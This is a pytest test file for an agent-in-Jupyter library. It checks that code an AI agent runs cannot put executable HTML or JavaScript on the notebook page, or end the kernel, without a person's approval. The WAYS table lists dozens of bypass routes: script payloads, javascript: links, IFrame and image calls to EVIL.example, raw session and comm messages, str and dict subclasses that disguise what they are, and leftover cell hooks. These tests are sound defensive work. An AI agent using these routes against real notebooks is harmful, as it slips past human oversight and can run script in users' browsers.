"""In a real kernel: whatever way a step takes, nothing that runs reaches the page before a person was asked."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from jupyter_client.blocking.client import BlockingKernelClient

from tests.kernels import started

MARK = "EVIL"
SCRIPT = f"<script>{MARK}()</script>"
PREPARED = f"""
import agent_kernel as ak, json
from agent_kernel.agents import approval
from IPython.display import display
known = approval.review
html = {SCRIPT!r}
def go(code, approve="risky", *, again=False, reviewed=False, more=()):
    # The review of source stands aside: what is emitted has to do.
    approval.review = known if reviewed else lambda *_, **__: ()
    run = ak.Agent("ada", model=ak.ScriptedModel([code, *more, "task.success('end')"]), state=ak.here(), approve=approve).start("go")
    for _ in run: pass
    if again:
        for _ in run.approve(): pass
    asked = [one.stopped for one in run.events if one.kind == "ApprovalRequested"]
    sent = [one.sent for one in run.events if one.kind == "Output"]
    print("FOUND" + json.dumps([run.status, asked, sent]))
class Plain: pass
"""

WAYS = {
    "a method that is assigned": "Plain._repr_html_ = lambda self: html\nPlain()",
    "a class made by type": "type('T', (), {'_repr_' + 'html_': lambda self: html})()",
    "a partial method": "import functools\nclass T: pass\nsetattr(T, '_repr_html_', functools.partialmethod(lambda self: html))\nT()",
    "a mimebundle": "class T: pass\nT._repr_mimebundle_ = lambda self, **_: {'text/html': html}\nT()",
    "javascript": "class T: pass\nT._repr_javascript_ = lambda self: 'EVIL()'\nT()",
    "shown by itself": "class T: pass\nT._ipython_display_ = lambda self: display({'text/html': html}, raw=True)\nT()",
    "HTML": "import IPython.display as d\ngetattr(d, 'HT' + 'ML')(html)",
    "Javascript": "import IPython.display as d\ndisplay(getattr(d, 'Java' + 'script')('EVIL()'))",
    "IFrame": "import IPython.display as d\nd.IFrame('https://EVIL.example', 10, 10)",
    "FileLink": "import IPython.display as d\nd.FileLink(d.__file__)",
    "a style of pandas": "import pandas as pd\npd.DataFrame({'a': [html]}).style",
    "publish_display_data": "import IPython.display as d\nd.publish_display_data({'text/html': html})",
    "the publisher": "get_ipython().display_pub.publish({'text/html': html})",
    "a formatter": "get_ipython().display_formatter.formatters['text/html'].for_type(Plain, lambda _: html)\nPlain()",
    "an update": "handle = display('x', display_id='some')\nhandle.update({'text/html': html}, raw=True)",
    "an unknown type": "display({'application/x-EVIL': 1}, raw=True)",
    "svg": "display({'image/svg+xml': '<svg>' + html + '</svg>'}, raw=True)",
    "markdown": "display({'text/markdown': html}, raw=True)",
    "HTMLMath": "import ipywidgets\nipywidgets.HTMLMath(html)",
    "a change of a widget": "import ipywidgets\nw = ipywidgets.HTML('x')\nw.value = html",
    "an output of a widget": "import ipywidgets\nw = ipywidgets.Output()\nw.outputs = ({'output_type': 'display_data', 'data': {'text/html': html}, 'metadata': {}},)",
    "anywidget": "import anywidget\nclass W(anywidget.AnyWidget):\n    _esm = 'EVIL()'\nW()",
    "a channel": "import comm\ncomm.create_comm(target_name='EVIL')",
    "a channel for a widget": "import comm\ncomm.create_comm(target_name='jupyter.widget', data={'state': {'_model_module': 'EVIL'}})",
    "the next cell": "get_ipython().set_next_input('EVIL()')",
    "a payload": "get_ipython().payload_manager.write_payload({'source': 'page', 'data': {'text/html': html}})",
    "the session": "k = get_ipython().kernel\nk.session.send(k.iopub_socket, 'display_data', {'data': {'text/html': html}, 'metadata': {}})",
    "the session's class": "k = get_ipython().kernel\ntype(k.session).send(k.session, k.iopub_socket, k.session.msg('display_data', {'data': {'text/html': html}, 'metadata': {}}))",
    "the thread that sends": "k = get_ipython().kernel\nk.iopub_thread.send_multipart([b'EVIL'])",
    "another thread": "import threading\nt = threading.Thread(target=lambda: display({'text/html': html}, raw=True))\nt.start()\nt.join()",
    "in spite of a handler": "try:\n    display({'text/html': html}, raw=True)\nexcept BaseException:\n    pass",
    "an image of another server": "display({'text/html': '<img src=\"https://EVIL.example/?rows=1\">'}, raw=True)",
    # Classes that answer otherwise when they are looked at than when they are sent:
    "a text that hides itself": "class S(str):\n    def __radd__(self, other): return ''\ndisplay({'text/html': S(html)}, raw=True)",
    "a type that hides itself": "class S(str):\n    def lower(self): return 'text/plain'\n    __str__ = lower\ndisplay({S('text/html'): html}, raw=True)",
    "a bundle that hides itself": "class B(dict):\n    n = 0\n    def items(self):\n        self.n += 1\n        return dict.items(self) if self.n > 3 else {}.items()\nk = get_ipython().kernel\nk.session.send(k.iopub_socket, 'display_data', {'data': B({'text/html': html}), 'metadata': {}})",
    "a message that hides what it is": "class S(str):\n    def __str__(self): return 'stream'\nk = get_ipython().kernel\nk.session.send(k.iopub_socket, S('display_data'), {'data': {'text/html': html}, 'metadata': {}})",
    "a list where a text is expected": "import comm\nc = '@jupyter-widgets/controls'\ncomm.create_comm(target_name='jupyter.widget', data={'state': {'_model_module': c, '_view_module': c, '_model_name': 'HTMLModel', 'value': [html]}})",
    "a view of another module": "import comm\ncomm.create_comm(target_name='jupyter.widget', data={'state': {'_model_module': '@jupyter-widgets/controls', '_view_module': 'EVIL'}})",
    "a formula": "display({'text/html': r'<p>$\\href{javascript:EVIL()}{x}$</p>'}, raw=True)",
}
STILL = {
    "a table": "import pandas as pd\npd.DataFrame({'a': [1, 2]})",
    "a style of pandas": "import pandas as pd\npd.DataFrame({'a': [1, 2]}).style.highlight_max()",
    "a figure": "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
    "a model": "from sklearn.linear_model import Ridge\nRidge().fit([[1.0], [2.0]], [1, 2])",
    "text": "print('<script>')\n'<script>'",
    "a slider": "import ipywidgets\nipywidgets.IntSlider()",
    "HTML": "import IPython.display as d\nd.HTML('<b>bold</b>')",
}


class Page:
    """A kernel, and what it sends to its page."""

    def __init__(self, client: BlockingKernelClient) -> None:
        self._client = client
        self.printed = ""

    def left(self) -> str:
        """The functions that are called around each cell."""
        printed, found = (
            self.printed,
            "[one.__name__ for all in get_ipython().events.callbacks.values() for one in all]",
        )
        self.run(f"print({found})")
        left, self.printed = self.printed, printed
        return left

    def run(self, source: str) -> tuple[list[Any], list[dict[str, Any]]]:
        """Run a cell: what `go` says of the run, and all that reached the page but for text."""
        got: list[dict[str, Any]] = []
        reply: Any = self._client.execute_interactive(source, timeout=120, output_hook=got.append, store_history=True)
        self.printed = printed = "".join(one["content"]["text"] for one in got if one["msg_type"] == "stream")
        failed = [one["content"]["traceback"] for one in got if one["msg_type"] == "error"]
        assert not failed, "\n".join(failed[0])
        found = json.loads(printed.rpartition("FOUND")[2].splitlines()[0]) if "FOUND" in printed else []
        kinds = ("display_data", "update_display_data", "execute_result", "comm_open", "comm_msg")
        shown = [{"type": one["msg_type"], **one["content"]} for one in got if one["msg_type"] in kinds]
        return found, [*shown, *reply["content"].get("payload", [])]


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    notebook: Path = tmp_path_factory.mktemp("page") / "study.ipynb"
    with pytest.MonkeyPatch.context() as patch, started(notebook, patch) as (client, _):
        found = Page(client)
        found.run(PREPARED)
        yield found


def marked(shown: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """What reached the page of what was to be stopped; texts are no danger."""
    for one in shown:
        one.get("data", {}).pop("text/plain", None)
    return [one for one in shown if MARK in json.dumps(one)]


@pytest.mark.sampled
@pytest.mark.parametrize("way", WAYS)
def test_what_runs_in_the_page_is_asked_about(page: Page, way: str) -> None:
    (status, asked, _), shown = page.run(f"go({WAYS[way]!r})")
    assert marked(shown) == []
    assert status == "pending"
    assert asked[-1][0][0] == "shows"


@pytest.mark.sampled
@pytest.mark.parametrize("way", WAYS)
def test_under_never_it_is_withheld_and_said_in_one_line(page: Page, way: str) -> None:
    (status, asked, sent), shown = page.run(f"go({WAYS[way]!r}, 'never')")
    assert marked(shown) == []
    assert (status, asked) == ("completed", [])
    assert "[withheld: " in sent[0]


@pytest.mark.parametrize("what", STILL)
def test_what_runs_nothing_is_shown_unasked(page: Page, what: str) -> None:
    (status, asked, sent), shown = page.run(f"go({STILL[what]!r})")
    assert (status, asked) == ("completed", [])
    assert shown or what == "text"
    assert "withheld" not in sent[0]


def test_an_agent_in_a_namespace_of_its_own_is_no_way_around(page: Page) -> None:
    code = "from IPython.display import display as d\nd({'text/html': '<script>EVIL()</script>'}, raw=True)"
    source = f"approval.review = lambda *_, **__: ()\nrun = ak.Agent('ada', model=ak.ScriptedModel([{code!r}]), state={{}}, approve='risky').start('go')\nfor _ in run: pass\nprint(run.status)"
    _, shown = page.run(source)
    assert marked(shown) == []


@pytest.mark.parametrize("code", ["exit()", "exit", "if True:\n    quit()", "end = quit\nend()"])
@pytest.mark.parametrize("reviewed", [True, False])
def test_no_step_ends_the_kernel_unasked(page: Page, code: str, reviewed: bool) -> None:
    """IPython stops the kernel's loop a tenth of a second later."""
    (status, asked, _), _ = page.run(f"go({code!r}, reviewed={reviewed})")
    assert status == "pending"
    assert reviewed or asked[-1] == [["ends", "the kernel"]]
    (status, _, sent), _ = page.run(f"go({code!r}, 'never', reviewed={reviewed})")
    assert status == "completed"
    assert "denied" in sent[0]
    assert reviewed or "ends the kernel" in sent[0]
    page.run("import time; time.sleep(0.2)")
    page.run("1")


def test_approving_shows_it(page: Page) -> None:
    (status, asked, _), shown = page.run(f"go({WAYS['a method that is assigned']!r}, again=True)")
    assert (status, len(asked)) == ("completed", 1)
    assert any(one.get("data", {}).get("text/html") == SCRIPT for one in shown)
    assert asked[0] == [["shows", f"text/html that runs {MARK}"]]


def test_a_renderer_is_asked_about_once_in_a_run(page: Page) -> None:
    code = "display({'application/vnd.plotly.v1+json': {}, 'text/html': html}, raw=True)"
    (status, asked, _), shown = page.run(f"go({code!r}, again=True, more=[{code!r}])")
    assert (status, len(asked)) == ("completed", 1)
    first, second = [one["data"] for one in shown if "application/vnd.plotly.v1+json" in one.get("data", {})]
    assert "text/html" in first
    assert "text/html" not in second, "what was not allowed for good goes, where the page has what was"


def test_a_person_s_own_cell_shows_what_it_likes(page: Page) -> None:
    _, shown = page.run("display({'text/html': html}, raw=True)")
    assert any(one.get("data", {}).get("text/html") == SCRIPT for one in shown)


LEFT = {
    "after each cell": "def {name}(*_): display({{'text/html': html}}, raw=True)\nget_ipython().events.register('post_run_cell', {name})",
    "before each cell": "def {name}(*_): display({{'text/html': html, 'text/plain': 'x'}}, raw=True)\nget_ipython().events.register('pre_run_cell', {name})",
}
UNREGISTER = "[get_ipython().events.unregister(kind, one) for kind, found in get_ipython().events.callbacks.items() for one in list(found) if getattr(one, '__name__', '').startswith('left_')]"


@pytest.mark.parametrize("approve", ["risky", "never"])
@pytest.mark.parametrize("way", LEFT)
def test_what_a_step_left_to_be_called_shows_nothing_that_runs_in_later_cells(
    page: Page, way: str, approve: str
) -> None:
    name = f"left_{approve}_{way.replace(' ', '_')}"
    try:
        _, shown = page.run(f"go({LEFT[way].format(name=name)!r}, {approve!r})")
        assert marked(shown) == []
        # Where the step was stopped, it has left nothing but what a person brings back.
        for _ in range(2):
            _, shown = page.run("1")
            assert marked(shown) == []
            assert page.printed.count("[withheld: ") == (1 if name in page.left() else 0)
        assert name in page.left() or approve == "risky"
    finally:
        page.run(UNREGISTER)
        page.run(UNREGISTER)


def test_a_person_s_cell_may_call_what_a_step_defined(page: Page) -> None:
    page.run("go('def left_shows(*_): display({\"text/html\": html}, raw=True)')")
    for source in ("left_shows()", "def mine(): left_shows()\nmine()", "[one() for one in [left_shows]]"):
        _, shown = page.run(source)
        assert marked(shown) != []
        assert "withheld" not in page.printed


def test_within_an_output_of_a_widget_it_is_asked_about_without_an_error(page: Page) -> None:
    code = "import ipywidgets\nwith ipywidgets.Output():\n    display({'text/html': html}, raw=True)"
    (status, asked, _), shown = page.run(f"go({code!r})")
    assert marked(shown) == []
    assert "EffectStopped" not in json.dumps(shown)
    assert status == "pending"
    assert asked[-1][0][0] == "shows"
